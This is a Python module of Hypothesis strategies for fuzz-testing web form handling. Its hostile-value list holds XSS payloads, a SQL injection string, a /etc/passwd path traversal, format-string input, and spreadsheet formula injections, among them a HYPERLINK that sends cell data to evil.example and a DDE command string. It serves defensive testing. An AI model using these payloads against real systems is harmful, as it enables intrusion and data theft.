"""Hypothesis strategies of hostile values: what a careless client, a fuzzer or an attacker types into a form."""

import math
from datetime import date

from hypothesis import strategies as st

SCRIPT = '<script>alert("xss")</script>'
RAW_MARKERS = ("<script>alert", "<img src=x onerror", "<svg onload")

HOSTILE_STRINGS = [
    "",
    " ",
    "\t\r\n",
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% csrf_token %}",
    "%s%s%s%n",
    "' OR 1=1 --",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "inf",
    "1e309",
    "-1e309",
    "1E+999999",
    "-1",
    "0",
    "-0",
    "00000000000000000001",
    "99999999999999999999999999999999",
    "-99999999999999999999999999999999",
    "0.000000000000000000001",
    "3.14159265358979323846264338327950288",
    "1,5",
    "0x1F",
    "9999-12-31",
    "10000-01-01",
    "0000-00-00",
    "0001-01-01",
    "2027-02-30",
    "1900-02-29",
    "2027-13-01",
    "31/12/2027",
    "true",
    "false",
    "null",
    "None",
    "[]",
    "{}",
    "on",
    "../../../../etc/passwd",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\ufeffbom",
    "\u200b\u200c\u200d",
    "Z\u0351\u0363\u0313a\u0310\u0364l\u036bg\u0305o",
    "💩🚀👩‍🔬",
    "ﷺ",
    "Ω≈ç√∫",
    "İıŞş",
    "a" * 301,
    "a" * 5001,
    "x" * 100_000,
    ("<b>" * 2000),
]


def hostile_text():
    """One hostile value as the string a browser would send."""
    return st.one_of(
        st.sampled_from(HOSTILE_STRINGS),
        st.text(max_size=200),
        st.integers(min_value=-(10**40), max_value=10**40).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
        st.sampled_from(HOSTILE_STRINGS).map(lambda s: SCRIPT + s),
    )


def hostile_value():
    """A hostile form value: a string, occasionally several values for one name."""
    return st.one_of(hostile_text(), st.lists(hostile_text(), min_size=2, max_size=3))


def mutated(base: dict, names=None, *, text_fields=()):
    """``base`` (a valid POST) with some fields replaced by hostile values, some dropped, and often the script
    payload written into the free-text fields, so that a successful save stores it and the page shows it."""
    names = sorted(names or base)

    @st.composite
    def build(draw):
        data = dict(base)
        if text_fields and draw(st.booleans()):
            for name in text_fields:
                data[name] = SCRIPT
        chosen = draw(st.lists(st.sampled_from(names), max_size=max(1, min(4, len(names))), unique=True))
        for name in chosen:
            if draw(st.integers(0, 9)) == 0:
                data.pop(name, None)
            else:
                data[name] = draw(hostile_value())
        return data

    return build()


def random_form(names):
    """Every named field hostile."""
    return st.fixed_dictionaries({name: hostile_value() for name in names})


def json_scalars():
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**30), max_value=10**30),
        st.floats(allow_nan=False, allow_infinity=False),
        st.sampled_from(HOSTILE_STRINGS),
        st.text(max_size=50),
    )


def json_values(max_leaves=12):
    return st.recursive(
        json_scalars(),
        lambda children: st.one_of(
            st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)
        ),
        max_leaves=max_leaves,
    )


def is_finite_number(value) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool) and math.isfinite(value)
